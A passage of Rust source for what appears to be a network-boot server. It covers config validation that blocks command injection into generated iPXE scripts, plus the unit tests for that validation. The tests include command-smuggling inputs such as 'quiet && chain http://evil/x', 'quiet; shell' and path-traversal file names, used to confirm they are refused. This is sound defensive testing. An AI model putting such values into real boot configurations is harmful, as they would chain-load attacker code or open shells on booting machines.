        let width = lines.iter().map(|(l, _)| l.len()).max().unwrap_or(0);
        for (l, r) in lines {
            out.push_str(&format!("{l:width$}  # {}  [{}]\n", r.source, r.env));
        }
        out
    }
}

/// Keys whose values are written into iPXE scripts.
const IN_IPXE_SCRIPTS: [&str; 5] =
    ["server.public_url", "boot.kernel", "boot.initrd", "boot.squashfs", "boot.extra_kernel_args"];

/// The first piece of `s` an iPXE script would read as its own syntax
/// rather than as text, and what iPXE makes of it.
fn ipxe_syntax(s: &str) -> Option<(&'static str, &'static str)> {
    [
        ("${", "expands a setting"),
        ("&&", "chains a command"),
        ("||", "chains a command"),
        (";", "separates commands"),
    ]
    .into_iter()
    .find(|(token, _)| s.contains(token))
}

/// Why a boot file name cannot stand on an iPXE `kernel`/`initrd` line and
/// in a URL path, if it cannot.
fn boot_name_problem(s: &str) -> Option<String> {
    if s.contains(' ') {
        return Some(format!("`{s}` contains a space, which ends the name on the iPXE kernel/initrd line"));
    }
    if s.contains("..") || !valid_plain_name(s) {
        return Some(format!(
            "`{s}` must be a plain file name inside boot_dir (no `/`, no `..`, not hidden)"
        ));
    }
    None
}

fn validate(def: &KeyDef, v: &Value) -> Result<(), String> {
    if let (Kind::Int { min, max }, Value::Int(n)) = (def.kind, v) {
        if *n < min || *n > max {
            return Err(format!("{n} is out of range {min}..={max}"));
        }
    }
    let Some(s) = v.text() else {
        return Ok(());
    };
    if s.chars().any(|c| c.is_control()) {
        // A newline in a value that ends up in an iPXE script would inject commands.
        return Err("must not contain control characters (newlines, tabs)".into());
    }
    let dotted = def.dotted();
    if IN_IPXE_SCRIPTS.contains(&dotted.as_str()) {
        if let Some((token, what)) = ipxe_syntax(s) {
            return Err(format!(
                "`{s}` contains `{token}`, which in the iPXE scripts this value is written into {what}; \
                 remove it"
            ));
        }
    }
    match dotted.as_str() {
        "server.host" if s.trim().is_empty() => {
            Err("must not be empty; use 0.0.0.0 for every address".into())
        }
        "server.public_url" | "netboot.release_base_url" => {
            let lower = s.to_ascii_lowercase();
            let rest = lower.strip_prefix("http://").or_else(|| lower.strip_prefix("https://"));
            match rest {
                Some(r) if !r.is_empty() && !r.starts_with('/') && !r.contains(' ') => Ok(()),
                _ => Err(format!("`{s}` is not an http(s):// URL with a host, e.g. http://10.0.0.2:8080")),
            }
        }
        "paths.state_dir" if s.is_empty() => Err("must not be empty".into()),
        "paths.catalog" if s.to_ascii_lowercase().starts_with("file://") => {
            Err("give a plain path instead of a file:// URL".into())
        }
        "admin.username" => {
            if !s.is_empty()
                && s.len() <= 64
                && s.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
            {
                Ok(())
            } else {
                Err("must be 1-64 letters, digits, `.`, `_` or `-`".into())
            }
        }
        "admin.password" if s.is_empty() => Err("must not be empty".into()),
        "tftp.address" => match s.trim().parse::<std::net::Ipv4Addr>() {
            Ok(_) => Ok(()),
            Err(_) => Err(format!("`{s}` is not an IPv4 address (0.0.0.0 for every address)")),
        },
        "proxy_dhcp.advertise_address" => match s.trim().parse::<std::net::Ipv4Addr>() {
            Ok(a) if !a.is_unspecified() && !a.is_broadcast() && !a.is_multicast() => Ok(()),
            _ => Err(format!("`{s}` is not an IPv4 address a PXE client could reach, e.g. 192.168.1.2")),
        },
        "proxy_dhcp.interface" => {
            if s.len() < 16 && s.chars().all(|c| c.is_ascii_alphanumeric() || "._-@".contains(c)) {
                Ok(())
            } else {
                Err(format!("`{s}` is not an interface name such as eth0 or enp1s0"))
            }
        }
        "proxy_dhcp.efi_boot_file" if s != "snponly.efi" && s != "ipxe.efi" => {
            Err(format!("`{s}`: use snponly.efi or ipxe.efi"))
        }
        "boot.kernel" | "boot.initrd" | "boot.squashfs" => boot_name_problem(s).map_or(Ok(()), Err),
        _ => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    fn load(file: Option<&Path>, env: &[(&str, &str)]) -> Result<Config, ConfigError> {
        let env: HashMap<String, String> = env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
        Config::load_with(file, &move |k| env.get(k).cloned())
    }

    #[test]
    fn the_admin_password_can_come_from_a_file() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("pw");
        std::fs::write(&f, "from a secret\n").unwrap();
        let fs = f.display().to_string();
        let c = load(None, &[("BTY_ADMIN_PASSWORD_FILE", &fs)]).unwrap();
        assert_eq!(c.admin.password, "from a secret");
        assert!(!c.admin.password_is_default);
        // The variable itself wins over the file.
        let c = load(None, &[("BTY_ADMIN_PASSWORD_FILE", &fs), ("BTY_ADMIN_PASSWORD", "direct")]).unwrap();
        assert_eq!(c.admin.password, "direct");
        let e = load(None, &[("BTY_ADMIN_PASSWORD_FILE", "/nonexistent/pw")]).unwrap_err().to_string();
        assert!(e.contains("BTY_ADMIN_PASSWORD_FILE") && e.contains("/nonexistent/pw"), "{e}");
        std::fs::write(&f, "\n").unwrap();
        assert!(load(None, &[("BTY_ADMIN_PASSWORD_FILE", &fs)]).is_err(), "an empty password is refused");
    }

    #[test]
    fn network_boot_services_are_configured_as_booleans_and_addresses() {
        let c = load(None, &[]).unwrap();
        assert!(!c.tftp.enabled && !c.proxy_dhcp.enabled, "off unless asked for");
        assert_eq!((c.tftp.port, c.proxy_dhcp.efi_boot_file.as_str()), (69, "snponly.efi"));
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("bty.toml");
        std::fs::write(&f, "[tftp]\nenabled = true\nport = 6969\n[proxy_dhcp]\ninterface = \"br0\"\n")
            .unwrap();
        let c = load(
            Some(&f),
            &[("BTY_PROXY_DHCP_ENABLED", "yes"), ("BTY_PROXY_DHCP_ADVERTISE_ADDRESS", "10.0.0.2")],
        )
        .unwrap();
        assert!(c.tftp.enabled && c.proxy_dhcp.enabled);
        assert_eq!(c.tftp.port, 6969);
        assert_eq!(c.proxy_dhcp.interface.as_deref(), Some("br0"));
        assert_eq!(c.proxy_dhcp.advertise_address, Some("10.0.0.2".parse().unwrap()));
        let shown = c.shown();
        assert_eq!(shown.iter().find(|k| k.key == "tftp.enabled").unwrap().value, Some(true.into()));
        std::fs::write(&f, "[tftp]\nenabled = \"maybe\"\n").unwrap();
        let e = load(
            Some(&f),
            &[("BTY_PROXY_DHCP_ENABLED", "sometimes"), ("BTY_PROXY_DHCP_ADVERTISE_ADDRESS", "0.0.0.0")],
        )
        .unwrap_err()
        .to_string();
        assert!(e.contains("tftp.enabled") && e.contains("must be true or false"), "{e}");
        assert!(e.contains("`sometimes` is not true or false"), "{e}");
        assert!(e.contains("proxy_dhcp.advertise_address"), "{e}");
    }

    #[test]
    fn defaults_then_file_then_env() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("bty.toml");
        std::fs::write(
            &f,
            "[server]\nport = 9000\nhost = \"127.0.0.1\"\n[paths]\nstate_dir = \"/srv/bty\"\n",
        )
        .unwrap();
        let c = load(Some(&f), &[("BTY_SERVER_PORT", "9100"), ("BTY_ADMIN_PASSWORD", "s3cret")]).unwrap();
        assert_eq!(c.server.port, 9100);
        assert_eq!(c.server.host, "127.0.0.1");
        assert_eq!(c.paths.boot_dir, PathBuf::from("/srv/bty/boot"));
        assert_eq!(c.paths.catalog, "/srv/bty/catalog.toml");
        assert!(!c.admin.password_is_default);
        let shown = c.shown();
        let get = |k: &str| shown.iter().find(|r| r.key == k).unwrap().clone();
        assert_eq!(get("server.port").source, "env:BTY_SERVER_PORT");
        assert_eq!(get("server.host").source, format!("file:{}", f.display()));
        assert_eq!(get("boot.kernel").source, "default");
        assert_eq!(get("admin.password").value, Some(serde_json::Value::from("<redacted>")));
        assert!(!c.render_text().contains("s3cret"));
    }

    #[test]
    fn config_dir_and_file_env() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("bty.toml"), "[boot]\nkernel = \"bzImage\"\n").unwrap();
        let d = dir.path().to_str().unwrap();
        let c = load(None, &[("BTY_CONFIG_DIR", d)]).unwrap();
        assert_eq!(c.boot.kernel, "bzImage");
        let missing = load(None, &[("BTY_CONFIG_FILE", "/nonexistent/bty.toml")]).unwrap_err();
        assert!(missing.to_string().contains("/nonexistent/bty.toml"), "{missing}");
    }

    #[test]
    fn every_problem_is_named_with_its_source() {
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("bty.toml");
        std::fs::write(
            &f,
            "[server]\nprot = 1\nport = \"x\"\n[nope]\na = 1\n[boot]\nkernel = \"../vmlinuz\"\nextra_kernel_args = \"a\\nchain http://evil\"\n",
        )
        .unwrap();
        let err =
            load(Some(&f), &[("BTY_LIMITS_MAX_BODY_BYTES", "lots"), ("BTY_SERVER_PUBLIC_URL", "ftp://x")])
                .unwrap_err()
                .to_string();
        for want in [
            "server.prot (file:",
            "unknown key; [server] knows host, port, public_url, idle_timeout_s, body_timeout_s, max_connections",
            "server.port (file:",
            "nope.a (file:",
            "unknown section [nope]",
            "boot.kernel (file:",
            "boot.extra_kernel_args (file:",
            "control characters",
            "limits.max_body_bytes (env:BTY_LIMITS_MAX_BODY_BYTES): `lots` is not",
            "server.public_url (env:BTY_SERVER_PUBLIC_URL)",
        ] {
            assert!(err.contains(want), "missing {want:?} in:\n{err}");
        }
    }

    #[test]
    fn values_written_into_ipxe_scripts_refuse_its_syntax() {
        let cases = [
            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0 ${net0/ip}", "boot.extra_kernel_args", "`${`"),
            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet && chain http://evil/x", "boot.extra_kernel_args", "`&&`"),
            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet || shell", "boot.extra_kernel_args", "`||`"),
            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet; shell", "boot.extra_kernel_args", "`;`"),
            ("BTY_BOOT_EXTRA_KERNEL_ARGS", "quiet\nshell", "boot.extra_kernel_args", "control characters"),
            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2:8080/${x}", "server.public_url", "`${`"),
            ("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2;shell", "server.public_url", "`;`"),
            ("BTY_BOOT_KERNEL", "vmlinuz||shell", "boot.kernel", "`||`"),
            ("BTY_BOOT_KERNEL", "vm linuz", "boot.kernel", "a space"),
            ("BTY_BOOT_INITRD", "a..b", "boot.initrd", "`..`"),
            ("BTY_BOOT_INITRD", "../initrd", "boot.initrd", "no `/`"),
            ("BTY_BOOT_SQUASHFS", "root.squashfs&&x", "boot.squashfs", "`&&`"),
            ("BTY_BOOT_SQUASHFS", "sub/root.squashfs", "boot.squashfs", "no `/`"),
        ];
        for (env, value, key, says) in cases {
            let err = load(None, &[(env, value), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap_err().to_string();
            assert!(err.contains(&format!("{key} (env:{env})")), "{value:?}: {err}");
            assert!(err.contains(says), "{value:?}: want {says:?} in {err}");
            if !value.contains('\n') {
                assert!(err.contains(&format!("`{value}`")), "the offending text is shown: {err}");
            }
        }
        let ok = load(
            None,
            &[
                ("BTY_BOOT_EXTRA_KERNEL_ARGS", "console=ttyS0,115200n8 ip=dhcp"),
                ("BTY_BOOT_SQUASHFS", "root-1.2.squashfs"),
                ("BTY_SERVER_PUBLIC_URL", "http://bty.lan:8080/base"),
                ("BTY_PATHS_STATE_DIR", "/x"),
            ],
        );
        assert!(ok.is_ok(), "{:?}", ok.err());
    }

    #[test]
    fn server_connection_keys() {
        let c = load(None, &[("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
        assert_eq!(c.server.body_timeout, std::time::Duration::from_secs(30));
        assert_eq!(c.server.max_connections, None);
        let c = load(None, &[("BTY_SERVER_MAX_CONNECTIONS", "500"), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
        assert_eq!(c.server.max_connections, Some(500));
        let err = load(None, &[("BTY_SERVER_BODY_TIMEOUT_S", "0")]).unwrap_err().to_string();
        assert!(
            err.contains("server.body_timeout_s (env:BTY_SERVER_BODY_TIMEOUT_S): 0 is out of range"),
            "{err}"
        );
    }

    #[test]
    fn ranges_and_empty_optionals() {
        let err = load(None, &[("BTY_SERVER_PORT", "70000")]).unwrap_err().to_string();
        assert!(err.contains("out of range"), "{err}");
        let c = load(None, &[("BTY_SERVER_PUBLIC_URL", ""), ("BTY_PATHS_STATE_DIR", "/x")]).unwrap();
        assert!(c.server.public_url.is_none());
        let c =
            load(None, &[("BTY_SERVER_PUBLIC_URL", "http://10.0.0.2:8080/"), ("BTY_PATHS_STATE_DIR", "/x")])
                .unwrap();
        assert_eq!(c.server.public_url.as_deref(), Some("http://10.0.0.2:8080"));
    }
}
